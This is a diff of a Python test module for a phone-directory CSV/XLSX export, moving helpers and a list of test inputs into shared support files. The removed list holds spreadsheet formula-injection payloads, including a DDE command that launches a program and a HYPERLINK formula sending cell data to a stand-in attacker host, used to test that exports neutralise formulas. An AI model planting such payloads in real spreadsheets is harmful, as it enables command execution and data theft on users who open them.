@@ -18,43 +18,15 @@ from openpyxl.utils.escape import unescape
 from phones.diga.types import clean_text
 from phones.models import Agent, Phone, Project
 from phones.services.exchange import phone_export
-from phones.services.exchange.phone_export import COLUMNS, csv_lines, xlsx_chunks
+from phones.services.exchange.phone_export import COLUMNS, csv_lines
 from phones.services.finding.phone_list import Criteria
 from phones.services.routing.catalogue import Directory, directory_of
 from phones.services.tables.cell_guard import FORMULA_STARTS, unguarded
-from tests.services.finding.test_phone_list import NOON, RECEPTION, STRANGE, add_many, add_phone, directory, north
+from tests.support.exports import FORMULAS, book_of, csv_text
 from tests.support.hostile import HOSTILE
+from tests.support.north import NOON, RECEPTION, STRANGE, add_many, add_phone, directory, north
 
 __all__ = ["directory", "north"]
-
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"Pulsa")',
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "'=1+1",
-    "''",
-    "'Tis",
-    "#N/A",
-    "#DIV/0!",
-    'a";=1+1;"',
-    "a,=1+1",
-    "a\r\n=1+1",
-    "00951",
-    "1E5",
-    "TRUE",
-    "_x0041_",
-]
-
-
-def csv_text(project: Project, directory: Directory, **criteria: str) -> str:
-    return "".join(csv_lines(project=project, criteria=Criteria(**criteria), directory=directory, now=NOON))
 
 
 def rows_of(text: str) -> list[dict[str, str]]:
@@ -62,11 +34,6 @@ def rows_of(text: str) -> list[dict[str, str]]:
     assert text.startswith("\ufeff")
     reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
     return [{name: unguarded(cell) for name, cell in row.items()} for row in reader]
-
-
-def book_of(project: Project, directory: Directory, **criteria: str) -> io.BytesIO:
-    chunks = xlsx_chunks(project=project, criteria=Criteria(**criteria), directory=directory, now=NOON)
-    return io.BytesIO(b"".join(chunks))
 
 
 def sheet_of(project: Project, directory: Directory, **criteria: str) -> list[tuple[object, ...]]:
